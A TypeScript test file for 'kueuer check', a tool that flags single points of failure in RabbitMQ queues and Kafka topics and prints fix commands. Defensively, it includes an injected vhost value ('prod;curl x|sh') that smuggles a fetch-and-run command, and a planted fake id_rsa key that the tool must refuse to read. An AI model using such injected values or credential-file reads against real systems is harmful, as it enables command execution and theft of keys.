/** kueuer check's replication verdicts: a single point of failure on a cluster FAILs with the fix; on one node it is reported. */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { createServer as createHttpServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import { createServer, type AddressInfo, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { brokerReplicationResults, kafkaTopicResults, rabbitQueueResults, shellWord } from '../../cli/broker-checks.js';

describe('RabbitMQ queue types', () => {
  it('FAILs a classic request queue on a 3-node cluster, naming it, its node and the migration that stops nothing', () => {
    const results = rabbitQueueResults(
      'Secret shop/kueuer-backend',
      [
        { name: 'shop.web', type: 'classic', node: 'rabbit@rabbit-1' },
        { name: 'shop.web.dead-letter', type: 'quorum', deadLetter: true },
      ],
      3,
    );
    expect(results.filter((r) => !r.ok)).toEqual([
      {
        ok: false,
        what: 'RabbitMQ queue shop.web (Secret shop/kueuer-backend) is a classic queue on a 3-node cluster: it lives on rabbit@rabbit-1 only and is lost to every client while that node is down',
        fix:
          'migrate it to a quorum queue, without stopping anything: remove kueuer.io/queue-type: classic from its workload and KUEUER_RABBITMQ_QUEUE_TYPE=classic from the responder and the sidecars, and let them roll out (they keep using the classic queue meanwhile), ' +
          'then delete it once it is empty: rabbitmqctl delete_queue --if-empty shop.web (repeat while it answers "Queue is not empty"); ' +
          'its sidecars and the responder declare it again as a quorum queue at once (docs/rabbitmq.md, "An existing queue of another type")',
      },
    ]);
    expect(results.find((r) => r.ok)?.what).toContain('shop.web.dead-letter quorum');
  });

  it('FAILs a classic dead-letter queue with what it holds, and never tells to let the sidecars empty it (nothing consumes it)', () => {
    const results = rabbitQueueResults(
      'Secret shop/b',
      [{ name: 'shop.web.dead-letter', type: 'classic', node: 'rabbit@rabbit-2', messages: 4, deadLetter: true }],
      3,
    );
    expect(results).toEqual([
      {
        ok: false,
        what: "RabbitMQ queue shop.web.dead-letter (Secret shop/b) is a classic queue on a 3-node cluster: it lives on rabbit@rabbit-2 only: while that node is down, the copies of failed requests it holds (4 at the management API's last count) are out of reach and no new one can be written",
        fix:
          'migrate it to a quorum queue: remove kueuer.io/queue-type: classic from its workload (and KUEUER_RABBITMQ_QUEUE_TYPE=classic from its sidecars) and let it roll out; ' +
          'deleting the queue deletes its copies, so keep them first if you need them (rabbitmqadmin get queue=shop.web.dead-letter count=1000 ackmode=ack_requeue_true -f pretty_json > shop.web.dead-letter.json; repeat with a larger count while it returns as many as asked), ' +
          'then delete it: rabbitmqctl delete_queue shop.web.dead-letter; the sidecars declare it again as a quorum queue with the next copy (docs/rabbitmq.md, "An existing queue of another type")',
      },
    ]);
    expect(results[0]!.fix).not.toMatch(/empty it|--if-empty|stop/);
    // The management API's count lags (it read 0 for a queue holding 3): a queue counted empty still has its copies kept first,
    // and one counted past the minimum has them all asked for.
    const counted = (messages: number) => rabbitQueueResults('s', [{ name: 'a.dead-letter', type: 'classic', messages, deadLetter: true }], 3)[0]!.fix;
    expect(counted(0)).toContain('rabbitmqadmin get queue=a.dead-letter count=1000 ackmode=ack_requeue_true');
    expect(counted(2500)).toContain('rabbitmqadmin get queue=a.dead-letter count=2500 ackmode=ack_requeue_true');
  });

  it("names the queue's vhost in the commands when it is not /", () => {
    const [request, deadLetter] = classicPairIn('shop');
    expect(request!.fix).toContain('rabbitmqctl delete_queue --vhost shop --if-empty shop.web ');
    expect(deadLetter!.fix).toContain('rabbitmqadmin --vhost=shop get queue=shop.web.dead-letter count=1000 ');
    expect(deadLetter!.fix).toContain('rabbitmqctl delete_queue --vhost shop shop.web.dead-letter;');
  });

  it("quotes a vhost from a workload's Secret as one shell word, so a pasted command cannot run what it names", () => {
    const [request, deadLetter] = classicPairIn("prod;curl x|sh 'y'");
    expect(request!.fix).toContain(`rabbitmqctl delete_queue --vhost 'prod;curl x|sh '\\''y'\\''' --if-empty shop.web `);
    expect(deadLetter!.fix).toContain(`rabbitmqadmin --vhost='prod;curl x|sh '\\''y'\\''' get queue=shop.web.dead-letter`);
    expect(shellWord('prod-1/eu')).toBe('prod-1/eu');
  });

  it('reports quorum queues, undeclared queues and a classic queue on a single node without failing', () => {
    const results = rabbitQueueResults(
      'Secret shop/kueuer-backend',
      [
        { name: 'shop.a', type: 'quorum' },
        { name: 'shop.b', type: 'classic' },
        { name: 'shop.b.dead-letter', type: undefined, deadLetter: true },
      ],
      1,
    );
    expect(results).toEqual([
      {
        ok: true,
        what: 'RabbitMQ queues (Secret shop/kueuer-backend, 1 node): shop.a quorum, shop.b classic (single node: no other node to fail over to), shop.b.dead-letter not declared yet',
      },
    ]);
    expect(rabbitQueueResults('s', [{ name: 'shop.b', type: 'classic' }], 2).some((r) => !r.ok)).toBe(true);
  });
});

describe('Kafka topic replication', () => {
  const cluster = { brokerIds: [1, 2, 3], bootstrap: 'b-0:9092,b-1:9092' };
  const partitions = (...leaders: number[]) => leaders.map((leader, partition) => ({ partition, leader, replicas: [leader] }));

  it('FAILs min.insync.replicas 1 on a 3-broker cluster with the kafka-configs command that runs as printed', () => {
    const results = kafkaTopicResults(
      'Secret shop/kueuer-backend',
      [
        { name: 'kueuer.reply.shop.web.ab', replication: { replicationFactor: 3, minInsyncReplicas: 1 }, partitions: [] },
        { name: 'kueuer.shop.ok', replication: { replicationFactor: 3, minInsyncReplicas: 2 }, partitions: [] },
      ],
      cluster,
    );
    expect(results).toEqual([
      { ok: true, what: 'Kafka topics (Secret shop/kueuer-backend, 3 brokers): kueuer.shop.ok RF 3, min.insync.replicas 2' },
      {
        ok: false,
        what: 'Kafka topic kueuer.reply.shop.web.ab has min.insync.replicas 1: a confirmed record may exist on one broker only (Secret shop/kueuer-backend, 3 brokers)',
        fix: 'Kueuer does not change existing topics: kafka-configs.sh --bootstrap-server b-0:9092,b-1:9092 --alter --entity-type topics --entity-name kueuer.reply.shop.web.ab --add-config min.insync.replicas=2',
      },
    ]);
  });

  it('FAILs RF 1 with the reassignment that gives each partition 3 replicas (its leader first), then the min.insync.replicas step', () => {
    const [failed] = kafkaTopicResults(
      'Secret shop/kueuer-backend',
      [{ name: 'kueuer.shop.web', replication: { replicationFactor: 1, minInsyncReplicas: 1 }, partitions: partitions(1, 2, 3) }],
      cluster,
    );
    expect(failed).toEqual({
      ok: false,
      what: 'Kafka topic kueuer.shop.web has replication factor 1: its records are lost or unreachable while its broker is down (Secret shop/kueuer-backend, 3 brokers)',
      fix:
        'Kueuer does not change existing topics: give each partition 3 replicas: ' +
        `echo '{"version":1,"partitions":[{"topic":"kueuer.shop.web","partition":0,"replicas":[1,2,3]},{"topic":"kueuer.shop.web","partition":1,"replicas":[2,3,1]},{"topic":"kueuer.shop.web","partition":2,"replicas":[3,1,2]}]}' > raise.json; ` +
        'kafka-reassign-partitions.sh --bootstrap-server b-0:9092,b-1:9092 --reassignment-json-file raise.json --execute, then the same with --verify until every partition is completed; ' +
        'then kafka-configs.sh --bootstrap-server b-0:9092,b-1:9092 --alter --entity-type topics --entity-name kueuer.shop.web --add-config min.insync.replicas=2 (docs/kafka.md, "Raising an existing topic\'s replication")',
    });
  });

  it('asks for as many replicas as there are brokers on a 2-broker cluster, and for the client settings of a secured cluster', () => {
    const [failed] = kafkaTopicResults(
      's',
      [{ name: 'kueuer.a', replication: { replicationFactor: 1, minInsyncReplicas: 2 }, partitions: [{ partition: 0, leader: 7, replicas: [7] }] }],
      { brokerIds: [4, 7], bootstrap: 'k:9093', secured: true },
    );
    expect(failed!.fix).toContain(`echo '{"version":1,"partitions":[{"topic":"kueuer.a","partition":0,"replicas":[7,4]}]}' > raise.json; `);
    expect(failed!.fix).toContain('give each partition 2 replicas');
    // min.insync.replicas is already 2: no second step.
    expect(failed!.fix).not.toContain('kafka-configs.sh');
    expect(failed!.fix).toContain(
      'kafka-reassign-partitions.sh --bootstrap-server k:9093 --command-config client.properties --reassignment-json-file raise.json',
    );
    expect(failed!.fix).toContain("client.properties: the cluster's TLS/SASL client settings");
  });

  it('reports RF 1 on a single broker, and a topic not created yet, without failing', () => {
    expect(
      kafkaTopicResults(
        's',
        [
          { name: 'kueuer.a', replication: { replicationFactor: 1, minInsyncReplicas: 1 }, partitions: [] },
          { name: 'kueuer.b', replication: undefined, partitions: [] },
        ],
        { brokerIds: [1], bootstrap: 'k:9092' },
      ),
    ).toEqual([
      {
        ok: true,
        what: 'Kafka topics (s, 1 broker): kueuer.a RF 1, min.insync.replicas 1 (single broker: no other broker to fail over to), kueuer.b not created yet',
      },
    ]);
  });
});

describe('a broker that accepts connections and never answers', () => {
  /** A TCP server that accepts and stays silent, as a hung broker or a black-holing proxy does. */
  async function silentServer(): Promise<{ port: number; close: () => void }> {
    const sockets: Socket[] = [];
    const server = createServer((s) => sockets.push(s));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    return { port: (server.address() as AddressInfo).port, close: () => (sockets.forEach((s) => s.destroy()), server.close()) };
  }

  it('Kafka: the replication read gives up within 20 s', async () => {
    const broker = await silentServer();
    const started = Date.now();
    try {
      await expect(brokerReplicationResults('Secret shop/b', { KUEUER_BACKEND: `kafka://127.0.0.1:${broker.port}` }, ['shop.web'])).rejects.toThrow();
      expect(Date.now() - started).toBeLessThan(20_000);
    } finally {
      broker.close();
    }
  }, 120_000);

  it('RabbitMQ: the management API read gives up within 20 s', async () => {
    const mgmt = await silentServer();
    const started = Date.now();
    try {
      const settings = { KUEUER_BACKEND: 'amqp://u:p@127.0.0.1:5672', KUEUER_RABBITMQ_MANAGEMENT_URL: `http://u:p@127.0.0.1:${mgmt.port}` };
      await expect(brokerReplicationResults('Secret shop/b', settings, ['shop.web'])).rejects.toThrow();
      expect(Date.now() - started).toBeLessThan(20_000);
    } finally {
      mgmt.close();
    }
  }, 120_000);
});

/** A loopback port nothing listens on. */
async function closedPort(): Promise<number> {
  const closed = createServer();
  await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
  const port = (closed.address() as AddressInfo).port;
  await new Promise((resolve) => closed.close(resolve));
  return port;
}

describe('an unreachable management API', () => {
  it("names the API's address and the cause, never the password", async () => {
    const port = await closedPort();
    const settings = { KUEUER_BACKEND: 'amqp://u:s3cr%40t@127.0.0.1:5672', KUEUER_RABBITMQ_MANAGEMENT_URL: `http://u:s3cr%40t@127.0.0.1:${port}` };
    const err = (await brokerReplicationResults('Secret shop/b', settings, ['shop.web']).catch((e: unknown) => e)) as Error;
    expect(err.message).toMatch(new RegExp(`^RabbitMQ's management API at http://127\\.0\\.0\\.1:${port} did not answer: .*refused`));
    expect(err.message).not.toMatch(/s3cr/);
  });
});

/** RabbitMQ's management API as kueuer check reads it: three nodes and the queue `shop.web` (vhost /), 404 for any other. */
function managementApi(queue: Record<string, unknown>): (req: IncomingMessage, res: ServerResponse) => void {
  return (req, res) => {
    res.setHeader('content-type', 'application/json');
    if (req.url === '/api/nodes') res.end(JSON.stringify([{ name: 'rabbit@a' }, { name: 'rabbit@b' }, { name: 'rabbit@c' }]));
    else if (req.url === '/api/queues/%2F/shop.web') res.end(JSON.stringify(queue));
    else {
      res.statusCode = 404;
      res.end('{"error":"Object Not Found","reason":"Not Found"}');
    }
  };
}

describe('a management node down', () => {
  it('reads the queue types from the next management node, as the autoscaler does, and names every node when none answers', async () => {
    const down = await closedPort();
    // A management API that knows three nodes and one classic queue.
    const api = createHttpServer(managementApi({ name: 'shop.web', type: 'classic', node: 'rabbit@b', messages: 0 }));
    await new Promise<void>((resolve) => api.listen(0, '127.0.0.1', resolve));
    try {
      const up = (api.address() as AddressInfo).port;
      const settings = { KUEUER_BACKEND: 'amqp://u:p@127.0.0.1:5672', KUEUER_RABBITMQ_MANAGEMENT_URL: `http://127.0.0.1:${down},http://127.0.0.1:${up}` };
      const results = await brokerReplicationResults('Secret shop/b', settings, ['shop.web']);
      expect(results.map((r) => r.what)).toEqual([
        'RabbitMQ queues (Secret shop/b, 3 nodes): shop.web.dead-letter not declared yet',
        'RabbitMQ queue shop.web (Secret shop/b) is a classic queue on a 3-node cluster: it lives on rabbit@b only and is lost to every client while that node is down',
      ]);
      const none = { ...settings, KUEUER_RABBITMQ_MANAGEMENT_URL: `http://127.0.0.1:${down},http://127.0.0.1:${down}/` };
      const err = (await brokerReplicationResults('Secret shop/b', none, ['shop.web']).catch((e: unknown) => e)) as Error;
      expect(err.message.match(/did not answer/g)).toHaveLength(2);
    } finally {
      api.close();
    }
  });
});

describe('a management API over TLS with a private CA (a RabbitmqCluster with spec.tls and its CA Secret)', () => {
  /** A CA and a certificate for 127.0.0.1 signed by it, as the operator's caSecretName and TLS Secret hold them. */
  function certificates(): { ca: string; key: string; cert: string } {
    const dir = mkdtempSync(join(tmpdir(), 'kueuer-check-tls-'));
    const run = (args: string[]) => execFileSync('openssl', args, { cwd: dir, stdio: ['ignore', 'ignore', 'pipe'] });
    run(['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', 'ca.key', '-out', 'ca.crt', '-days', '2', '-subj', '/CN=rabbit-ca']);
    run(['req', '-newkey', 'rsa:2048', '-nodes', '-keyout', 'tls.key', '-out', 'tls.csr', '-subj', '/CN=my-rabbit']);
    writeFileSync(join(dir, 'san.ext'), 'subjectAltName=IP:127.0.0.1\n');
    run(['x509', '-req', '-in', 'tls.csr', '-CA', 'ca.crt', '-CAkey', 'ca.key', '-CAcreateserial', '-out', 'tls.crt', '-days', '2', '-extfile', 'san.ext']);
    const read = (f: string) => readFileSync(join(dir, f), 'utf8');
    return { ca: read('ca.crt'), key: read('tls.key'), cert: read('tls.crt') };
  }

  it("reads the queue types with the CA of the broker Secret's ca.crt, as the AMQP connection trusts it", async () => {
    const tls = certificates();
    const api = createHttpsServer({ key: tls.key, cert: tls.cert }, managementApi({ name: 'shop.web', type: 'quorum', node: 'rabbit@a', messages: 0 }));
    await new Promise<void>((resolve) => api.listen(0, '127.0.0.1', resolve));
    try {
      const settings = {
        KUEUER_BACKEND: 'amqps://u:p@127.0.0.1:5671',
        KUEUER_RABBITMQ_MANAGEMENT_URL: `https://127.0.0.1:${(api.address() as AddressInfo).port}`,
        KUEUER_RABBITMQ_CA: tls.ca,
      };
      expect(await brokerReplicationResults('Secret shop/b', settings, ['shop.web'])).toEqual([
        { ok: true, what: 'RabbitMQ queues (Secret shop/b, 3 nodes): shop.web quorum, shop.web.dead-letter not declared yet' },
      ]);
      // Without it the certificate is refused, and the error says so.
      const noCa = { KUEUER_BACKEND: settings.KUEUER_BACKEND, KUEUER_RABBITMQ_MANAGEMENT_URL: settings.KUEUER_RABBITMQ_MANAGEMENT_URL };
      const err = (await brokerReplicationResults('Secret shop/b', noCa, ['shop.web']).catch((e: unknown) => e)) as Error;
      expect(err.message).toMatch(/did not answer: .*certificate/i);
    } finally {
      api.close();
    }
  });
});

describe("a workload's Secret naming files", () => {
  it("never reads a file of this machine that a workload's Secret names (it would go to the broker the Secret names)", async () => {
    const dir = mkdtempSync(join(tmpdir(), 'kueuer-check-'));
    writeFileSync(join(dir, 'id_rsa'), 'PRIVATE-KEY-OF-THE-ADMIN');
    const broker = createServer((s) => s.destroy());
    await new Promise<void>((resolve) => broker.listen(0, '127.0.0.1', resolve));
    try {
      const settings = {
        KUEUER_BACKEND: `kafka://127.0.0.1:${(broker.address() as AddressInfo).port}?sasl=plain`,
        KUEUER_KAFKA_USERNAME: 'tenant',
        KUEUER_KAFKA_PASSWORD_FILE: join(dir, 'id_rsa'),
      };
      const err = (await brokerReplicationResults('Secret shop/b', settings, ['shop.web']).catch((e: unknown) => e)) as Error;
      expect(err.message).toMatch(/KUEUER_KAFKA_PASSWORD_FILE names a file inside the pods; kueuer check reads no file a workload's Secret names/);
    } finally {
      broker.close();
    }
  });
});

/** kueuer check's results for a classic request queue and its classic dead-letter queue on 3 nodes, in `vhost`. */
function classicPairIn(vhost: string) {
  return rabbitQueueResults(
    's',
    [
      { name: 'shop.web', type: 'classic', node: 'rabbit@r-1' },
      { name: 'shop.web.dead-letter', type: 'classic', node: 'rabbit@r-1', messages: 2, deadLetter: true },
    ],
    3,
    vhost,
  );
}
